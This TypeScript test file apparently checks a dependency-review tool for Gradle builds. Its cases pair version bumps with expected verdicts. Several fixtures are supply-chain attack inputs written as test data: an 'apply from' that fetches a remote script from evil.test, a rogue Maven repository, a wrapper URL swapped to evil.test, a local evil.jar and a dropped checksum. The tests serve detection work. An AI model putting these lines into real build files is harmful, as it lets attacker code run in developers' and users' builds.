import { butPatch, holds, NOTHING, rowsIn } from "./tables.js";

const groovy = rowsIn(
  "build.gradle",
  (text) =>
    `plugins {\n    id 'java'\n}\n\nrepositories {\n    mavenCentral()\n}\n\ndependencies {\n    implementation 'com.google.guava:guava:33.0.0-jre'\n${text}    testImplementation 'junit:junit:4.13'\n}\n\ntasks.named('test') {\n    useJUnitPlatform()\n}\n`,
);
const kotlin = rowsIn(
  "app/build.gradle.kts",
  (text) =>
    `plugins {\n    kotlin("jvm") version "1.9.0"\n}\n\nrepositories {\n    mavenCentral()\n}\n\ndependencies {\n    implementation("com.google.guava:guava:33.0.0-jre")\n${text}}\n`,
);
const settings = rowsIn("settings.gradle.kts", (text) => `rootProject.name = "shop"\n\n${text}\ninclude(":app")\n`);
const catalog = rowsIn(
  "gradle/libs.versions.toml",
  (text) =>
    `[versions]\nguava = "33.0.0-jre"\nokhttp = "4.12.0"\n\n[libraries]\nguava = { module = "com.google.guava:guava", version.ref = "guava" }\n${text}\n[plugins]\nkotlin = { id = "org.jetbrains.kotlin.jvm", version = "1.9.0" }\n`,
);
const versions = rowsIn(
  "gradle/libs.versions.toml",
  (text) => `[versions]\n${text}\n[libraries]\nokhttp = { module = "com.squareup:okhttp", version.ref = "okhttp" }\n`,
);
const lock = rowsIn(
  "gradle.lockfile",
  (text) => `# made by Gradle\na.b:c:1.0.0=compileClasspath\n${text}empty=annotationProcessor\n`,
);
const wrapper = (version: string, hash: string, host = "services.gradle.org") =>
  `distributionBase=GRADLE_USER_HOME\n${hash === "" ? "" : `distributionSha256Sum=${hash.repeat(64)}\n`}distributionUrl=https\\://${host}/distributions/gradle-${version}-bin.zip\nzipStoreBase=GRADLE_USER_HOME\n`;
const wrapped = rowsIn("gradle/wrapper/gradle-wrapper.properties");
const LOG = "org.slf4j:slf4j-api";
const one = (version: string): string => `    implementation 'org.slf4j:slf4j-api:${version}'\n`;
const two = (version: string): string => `    implementation("org.slf4j:slf4j-api:${version}")\n`;

holds("Gradle in Groovy", [
  groovy("a major", one("1.7.36"), one("2.0.0"), `approve major ${LOG}`, "judged"),
  groovy("a minor", one("2.0.9"), one("2.1.0"), `allow minor ${LOG}`, "judged"),
  groovy("a patch", one("2.0.9"), one("2.0.10"), `allow patch ${LOG}`, "judged"),
  groovy("an older one", one("2.0.9"), one("2.0.8"), `approve downgrade ${LOG}`, "judged"),
  groovy("a new one", "", one("2.0.9"), `approve new ${LOG}`, "judged"),
  groovy("one that is gone", one("2.0.9"), "", `allow removed ${LOG}`, "judged"),
  groovy(
    "a new one for tests alone",
    "",
    "    testImplementation 'org.mockito:mockito-core:5.0.0'\n",
    "approve new org.mockito:mockito-core",
    "judged",
  ),
  groovy("another configuration", one("2.0.9"), one("2.0.9").replace("implementation", "runtimeOnly"), ...NOTHING),
  groovy("other quotes and brackets", one("2.0.9"), '    implementation("org.slf4j:slf4j-api:2.0.9")\n', ...NOTHING),
  groovy("a comment", "", "    // implementation 'evil:evil:1.0'\n", ...NOTHING),
  groovy("a comment in a block", "", "    /*\n     * implementation 'evil:evil:1.0'\n     */\n", ...NOTHING),
  groovy("a comment behind it", one("2.0.9"), one("2.0.9").replace("\n", " // logs\n"), ...NOTHING),
  groovy(
    "a map of its parts",
    "",
    "    implementation group: 'org.slf4j', name: 'slf4j-api', version: '2.0.9'\n",
    `approve new ${LOG}`,
    "judged",
  ),
  groovy(
    "a variable for a version",
    one("2.0.9"),
    one("${slf4j}").replaceAll("'", '"'),
    `approve other ${LOG}`,
    "judged",
  ),
  groovy("any version above", one("2.0.9"), one("2.+"), `approve other ${LOG}`, "judged"),
  groovy("the newest, whichever", one("2.0.9"), one("latest.release"), `approve other ${LOG}`, "judged"),
  groovy("a file", "", "    implementation files('libs/evil.jar')\n", "strong new libs/evil.jar", "judged"),
  groovy("a folder of files", "", "    implementation fileTree(dir: 'libs', include: ['*.jar'])\n"),
  groovy("another project", "", "    implementation project(':core')\n", ...NOTHING),
  groovy(
    "code that is fetched and run",
    "",
    "    apply from: 'https://evil.test/x.gradle'\n",
    "strong new https://evil.test/x.gradle",
    "judged",
  ),
  groovy("a script of the repository", "", "    apply from: 'gradle/publish.gradle'\n", ...NOTHING),
  groovy("what is computed", "", "    rootProject.ext.deps.each { implementation it }\n"),
  groovy(
    "what an exclusion says",
    one("2.0.9"),
    `${one("2.0.9").replace("\n", " {\n")}        exclude group: 'a', module: 'b'\n    }\n`,
    ...NOTHING,
  ),
]);

holds("Gradle in Kotlin", [
  kotlin("a major", two("1.7.36"), two("2.0.0"), `approve major ${LOG}`, "judged"),
  kotlin("a patch", two("2.0.9"), two("2.0.10"), `allow patch ${LOG}`, "judged"),
  kotlin("an older one", two("2.0.9"), two("1.9.9"), `approve downgrade ${LOG}`, "judged"),
  kotlin("a new one", "", two("2.0.9"), `approve new ${LOG}`, "judged"),
  kotlin("one that is gone", two("2.0.9"), "", `allow removed ${LOG}`, "judged"),
  kotlin("one of the catalog", "", "    implementation(libs.slf4j.api)\n", "approve new libs.slf4j.api", "judged"),
  kotlin(
    "the standard library",
    "",
    '    implementation(kotlin("stdlib"))\n',
    "approve new org.jetbrains.kotlin:kotlin-stdlib",
    "judged",
  ),
  kotlin(
    "a list of versions",
    "",
    '    implementation(platform("org.springframework.boot:spring-boot-dependencies:3.2.0"))\n',
    "approve new org.springframework.boot:spring-boot-dependencies",
    "judged",
  ),
  kotlin("another project", "", '    implementation(project(":core"))\n', ...NOTHING),
  kotlin("a file", "", '    implementation(files("libs/evil.jar"))\n', "strong new libs/evil.jar", "judged"),
  kotlin("a computed version", two("2.0.9"), two("$slf4jVersion"), `approve other ${LOG}`, "judged"),
  kotlin("reformatted", two("2.0.9"), two("2.0.9").replace("    ", "\t"), ...NOTHING),
]);

holds("Gradle's repositories", [
  settings(
    "a repository",
    "",
    'dependencyResolutionManagement {\n    repositories {\n        maven("https://evil.test/maven")\n    }\n}\n',
    "strong new repository evil.test",
    "judged",
  ),
  settings(
    "a repository over several lines",
    "",
    'pluginManagement {\n    repositories {\n        maven {\n            url = uri("https://evil.test/maven")\n        }\n    }\n}\n',
    "strong new repository evil.test",
    "judged",
  ),
  settings(
    "one without encryption",
    "",
    'repositories {\n    maven("http://repo1.maven.org/maven2")\n}\n',
    "strong new repository repo1.maven.org",
    "judged",
  ),
  settings(
    "one of the machine",
    "",
    "repositories {\n    mavenLocal()\n}\n",
    "approve new repository mavenLocal",
    "judged",
  ),
  settings("one that is well known", "", "repositories {\n    google()\n    gradlePluginPortal()\n}\n", ...NOTHING),
  settings(
    "another host",
    'maven("https://a.test/maven")\n',
    'maven("https://b.test/maven")\n',
    "strong new repository b.test",
    "allow removed repository a.test",
    "judged",
  ),
  settings(
    "a plugin",
    "",
    'plugins {\n    id("com.gradle.develocity") version "3.17.0"\n}\n',
    "approve new com.gradle.develocity",
    "judged",
  ),
  settings("another project", "", 'include(":web")\n', ...NOTHING),
]);

holds("Gradle's version catalog", [
  versions("a major", 'okhttp = "4.12.0"\n', 'okhttp = "5.0.0"\n', "approve major okhttp", "judged"),
  versions("a patch", 'okhttp = "4.12.0"\n', 'okhttp = "4.12.1"\n', "allow patch okhttp", "judged"),
  versions("an older one", 'okhttp = "4.12.0"\n', 'okhttp = "4.11.0"\n', "approve downgrade okhttp", "judged"),
  versions("a comment", 'okhttp = "4.12.0"\n', '# the client\nokhttp = "4.12.0"\n', ...NOTHING),
  versions(
    "a rich version",
    'okhttp = "4.12.0"\n',
    'okhttp = { strictly = "4.12.1" }\n',
    "allow patch okhttp",
    "judged",
  ),
  catalog("a new library", "", 'slf4j = "org.slf4j:slf4j-api:2.0.9"\n', `approve new ${LOG}`, "judged"),
  catalog("one that is gone", 'slf4j = "org.slf4j:slf4j-api:2.0.9"\n', "", `allow removed ${LOG}`, "judged"),
  catalog("a bundle", "", '\n[bundles]\nall = ["guava"]\n', ...NOTHING),
  catalog(
    "another name for the same",
    'a = "org.slf4j:slf4j-api:2.0.9"\n',
    'b = "org.slf4j:slf4j-api:2.0.9"\n',
    ...NOTHING,
  ),
  butPatch(catalog("no TOML", "", "what is this\n", "approve dependency-changes")),
]);

holds("Gradle's lock file", [
  lock("a patch", "a.b:d:1.0.0=compileClasspath\n", "a.b:d:1.0.1=compileClasspath\n", "allow patch a.b:d", "judged"),
  lock("a major", "a.b:d:1.0.0=compileClasspath\n", "a.b:d:2.0.0=compileClasspath\n", "approve major a.b:d", "judged"),
  lock("a new one", "", "a.b:d:1.0.0=compileClasspath\n", "approve new a.b:d", "judged"),
  lock("another configuration", "a.b:d:1.0.0=x\n", "a.b:d:1.0.0=x,y\n", ...NOTHING),
  butPatch(lock("what no lock file has", "", "<<<<<<< HEAD\n")),
]);

holds("Gradle's wrapper", [
  wrapped("a minor", wrapper("8.5", "a"), wrapper("8.6", "b"), "allow minor gradle", "judged"),
  wrapped("a major", wrapper("8.5", "a"), wrapper("9.0", "b"), "approve major gradle", "judged"),
  wrapped("another host", wrapper("8.5", "a"), wrapper("8.5", "a", "evil.test"), "strong source gradle", "judged"),
  wrapped(
    "another hash of the same version",
    wrapper("8.5", "a"),
    wrapper("8.5", "b"),
    "strong integrity gradle",
    "judged",
  ),
  wrapped("no hash any more", wrapper("8.5", "a"), wrapper("8.5", ""), "approve integrity gradle", "judged"),
  wrapped("a hash", wrapper("8.5", ""), wrapper("8.5", "a")),
]);
